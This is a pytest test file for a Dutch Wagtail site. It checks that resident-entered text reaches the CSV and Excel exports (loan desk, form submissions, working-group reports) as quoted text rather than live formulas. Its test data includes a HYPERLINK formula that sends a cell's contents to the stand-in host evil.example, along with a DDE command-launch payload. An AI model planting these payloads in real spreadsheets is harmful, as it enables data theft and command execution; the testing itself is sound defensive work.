"""No formula injection in the site's CSV/Excel exports (cms.exports): a resident's text that
starts like a formula reaches the secretariat's spreadsheet as text, never as a formula."""

import csv
import datetime
import io
import zipfile

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.admin.viewsets import viewsets
from wagtail.contrib.forms.models import FormMixin
from wagtail.models import get_page_models

from cms import roles
from cms.exports import SafeSpreadsheetExportMixin, neutralise
from library.models import LoanFormPage, LoanRequest
from tests.factories import make_expert, make_home, make_lending_catalogue, make_loan, user_in_group

EVIL = '=HYPERLINK("http://evil.example"&C2,"Klik")'
SUM = "@SUM(1+1)"
PHONE = "+31 6 1234 5678"
GOALS = "-2 keer per week slecht nieuws brengen"
HARMLESS = "Sanne de Boer"


@pytest.fixture
def site(db):
    catalogue = make_lending_catalogue(make_home())
    expert = make_expert(catalogue, "Hoop houden", expert_name="Bram Jansen")
    return {"form": LoanFormPage.objects.get(), "expert": expert}


def client_in(role: str) -> Client:
    client = Client()
    client.force_login(user_in_group(role))
    return client


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def xlsx_rows(response):
    """The sheet's cells, after checking that the file itself holds no formula."""
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    rows = [list(row) for row in sheet.iter_rows()]
    assert all(cell.data_type != "f" for row in rows for cell in row)
    return rows


def by_heading(rows, key_heading: str, key: str) -> dict:
    """The row whose `key_heading` column holds `key`, as {heading: cell}."""
    headings = [getattr(cell, "value", cell) for cell in rows[0]]
    column = headings.index(key_heading)
    for row in rows[1:]:
        if getattr(row[column], "value", row[column]) == key:
            return dict(zip(headings, row, strict=True))
    raise AssertionError(f"no row with {key_heading} = {key!r}")


def assert_text_cell(cell, text: str) -> None:
    assert cell.data_type == "s"
    assert cell.value == text
    assert cell.quotePrefix  # Excel keeps it text, even after editing the cell


# --- the function itself ---


@pytest.mark.parametrize(
    "value",
    [EVIL, SUM, PHONE, "-2", "\tcmd|' /C calc'!A0", "\r=1+1", "=1+1", "+1", "@A1"],
)
def test_formula_like_text_gets_a_quote(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [HARMLESS, "06-1234 5678", "sanne@example.org", "", " =1+1", "Dr. P. Visser", "'al veilig"],
)
def test_harmless_text_is_untouched(value):
    assert neutralise(value) == value


@pytest.mark.parametrize(
    "value",
    [-2, 2.5, -0.5, 0, True, None, datetime.date(2025, 1, 2), datetime.datetime(2025, 1, 2, 3)],
)
def test_numbers_and_dates_stay_as_they_are(value):
    assert neutralise(value) is value


# --- the residents' answers: the loan desk and the loan form ---


@pytest.fixture
def desk_loans(site):
    """The register's export: one request with formulas typed in, one without."""
    make_loan(site["expert"], name=EVIL, supervisor=SUM, phone=PHONE, learning_goals=GOALS)
    make_loan(site["expert"], email="ander@example.org")
    return "/admin/leenbalie/"


@pytest.fixture
def submissions(site, client):
    """The form builder's export of the same answers, sent through the loan form."""
    form_url = site["form"].url
    answers = {
        "expert": str(site["expert"].pk),
        "programme": "huisartsgeneeskunde",
        "motivation": "Ik vermijd dit gesprek.",
        "consent": "on",
        "website": "",
    }
    for extra in (
        {
            "name": EVIL,
            "email": "sanne@example.org",
            "phone": PHONE,
            "supervisor": SUM,
            "learning_goals": GOALS,
        },
        {
            "name": HARMLESS,
            "email": "ander@example.org",
            "phone": "06-0000 2222",
            "supervisor": "Dr. P. Visser",
            "learning_goals": "Hoop bespreken.",
        },
    ):
        response = client.post(form_url, {**answers, **extra}, follow=True)
        assert response.status_code == 200 and "Bedankt" in response.content.decode()
    assert LoanRequest.objects.count() == 2
    return f"/admin/forms/submissions/{site['form'].pk}/"


# The two exports of residents' answers, by the fixture that fills them: the loan desk's
# register and the form builder's submissions, each with its own column headings.
ANSWER_EXPORTS = {
    "desk_loans": {
        "name": "Naam",
        "phone": "Telefoon",
        "supervisor": "Opleider",
        "goals": "Leerdoel(en)",
        "date": "Ontvangen op",
    },
    "submissions": {
        "name": "Naam",
        "phone": "Telefoonnummer",
        "supervisor": "Naam van je opleider",
        "goals": "Je persoonlijke leerdoel(en)",
        "date": "Datum van inzending",
    },
}
TYPED = {"name": EVIL, "phone": PHONE, "supervisor": SUM, "goals": GOALS}


def answer_rows(request, export: str, file_format: str) -> tuple[dict, dict, dict]:
    """The export that the fixture `export` fills, as the secretariat downloads it: its column
    headings, the row with the formulas typed in and the harmless row."""
    read = csv_rows if file_format == "csv" else xlsx_rows
    url = request.getfixturevalue(export)
    rows = read(client_in(roles.SECRETARIAT).get(f"{url}?export={file_format}"))
    evil = by_heading(rows, "E-mailadres", "sanne@example.org")
    return ANSWER_EXPORTS[export], evil, by_heading(rows, "E-mailadres", "ander@example.org")


@pytest.mark.parametrize("export", ANSWER_EXPORTS)
def test_answers_csv_quotes_formulas(db, request, export):
    heading, evil, harmless = answer_rows(request, export, "csv")
    assert {field: evil[heading[field]] for field in TYPED} == {
        field: "'" + text for field, text in TYPED.items()
    }
    assert harmless[heading["name"]] == HARMLESS
    assert harmless[heading["phone"]] == "06-0000 2222"
    assert harmless[heading["supervisor"]] == "Dr. P. Visser"
    assert harmless[heading["date"]][:2] == "20"  # a date, not quoted


@pytest.mark.parametrize("export", ANSWER_EXPORTS)
def test_answers_xlsx_store_formulas_as_text(db, request, export):
    heading, evil, harmless = answer_rows(request, export, "xlsx")
    for field, text in TYPED.items():
        assert_text_cell(evil[heading[field]], text)
    assert harmless[heading["name"]].value == HARMLESS
    assert not harmless[heading["name"]].quotePrefix
    assert isinstance(harmless[heading["date"]].value, datetime.datetime)


# --- the working group's reports ---


@pytest.fixture
def report_loans(site):
    # Without a book, so the learning goal shows in "Leerdoelen zonder passende expert".
    make_loan(None, learning_goals=EVIL, supervisor=SUM)
    make_loan(None, email="ander@example.org", learning_goals="Hoop bespreken.")


def test_report_csv_quotes_formulas(report_loans):
    client = client_in(roles.WORKING_GROUP)
    rows = csv_rows(client.get("/admin/rapporten/leerdoelen-zonder-expert/?export=csv"))
    assert by_heading(rows, "Leerdoel", "'" + EVIL)["Boek"] == "geen expert gevonden"
    assert by_heading(rows, "Leerdoel", "Hoop bespreken.")["Ontvangen"][:2] == "20"

    rows = csv_rows(client.get("/admin/rapporten/per-opleider/?export=csv"))
    evil = by_heading(rows, "Opleider", "'" + SUM)
    assert evil["AIOS met aanvraag"] == "1"  # a number, not quoted
    assert by_heading(rows, "Opleider", "Dr. P. Visser")["Gekoppeld"] == "0"


def test_report_xlsx_stores_formulas_as_text(report_loans):
    client = client_in(roles.WORKING_GROUP)
    rows = xlsx_rows(client.get("/admin/rapporten/leerdoelen-zonder-expert/?export=xlsx"))
    evil = by_heading(rows, "Leerdoel", EVIL)
    assert_text_cell(evil["Leerdoel"], EVIL)
    assert isinstance(evil["Ontvangen"].value, datetime.date)  # dates stay dates
    harmless = by_heading(rows, "Leerdoel", "Hoop bespreken.")
    assert not harmless["Leerdoel"].quotePrefix

    rows = xlsx_rows(client.get("/admin/rapporten/per-opleider/?export=xlsx"))
    evil = by_heading(rows, "Opleider", SUM)
    assert_text_cell(evil["Opleider"], SUM)
    assert evil["AIOS met aanvraag"].value == 1 and evil["AIOS met aanvraag"].data_type == "n"


# --- every export goes through cms.exports ---


def project_classes(base):
    found, todo = set(), [base]
    while todo:
        for subclass in todo.pop().__subclasses__():
            todo.append(subclass)
            if subclass.__module__.split(".")[0] in ("cms", "library", "curriculum"):
                found.add(subclass)
    return found


def test_every_export_of_the_site_is_safe(db):
    import library.admin.desk
    import library.reporting.reports  # noqa: F401

    reverse("wagtailadmin_home")  # loads the admin's URLs, which registers the viewsets
    views = project_classes(SpreadsheetExportMixin)
    assert library.admin.desk.LoanRequestIndexView in views
    assert library.reporting.reports.WorkingGroupReport in views
    assert all(issubclass(view, SafeSpreadsheetExportMixin) for view in views), views

    exporting = [
        viewset
        for viewset in viewsets.viewsets
        if isinstance(getattr(viewset, "list_export", None), list) and viewset.list_export
    ]
    assert exporting
    for viewset in exporting:
        assert issubclass(viewset.index_view_class, SafeSpreadsheetExportMixin), viewset

    form_pages = [model for model in get_page_models() if issubclass(model, FormMixin)]
    assert LoanFormPage in form_pages
    for model in form_pages:
        view = model().get_submissions_list_view_class()
        assert issubclass(view, SafeSpreadsheetExportMixin), model


def test_a_separator_inside_a_cell_cannot_start_a_formula(site):
    """Excel with Dutch settings splits a CSV file on ";": every text cell is quoted."""
    make_loan(None, learning_goals="Leren over pijn;=1+1;", supervisor="Dr. Y;=2+2")
    client = client_in(roles.WORKING_GROUP)
    for url in (
        "/admin/rapporten/leerdoelen-zonder-expert/?export=csv",
        "/admin/rapporten/per-opleider/?export=csv",
    ):
        text = b"".join(client.get(url).streaming_content).decode()
        for line in text.splitlines()[1:]:
            cells = next(csv.reader([line]))
            unquoted = [cell for cell in cells if ";" in cell and f'"{cell}"' not in line]
            assert not unquoted, (url, line)
    rows = csv_rows(client.get("/admin/rapporten/leerdoelen-zonder-expert/?export=csv"))
    assert by_heading(rows, "Leerdoel", "Leren over pijn;=1+1;")["Boek"] == "geen expert gevonden"
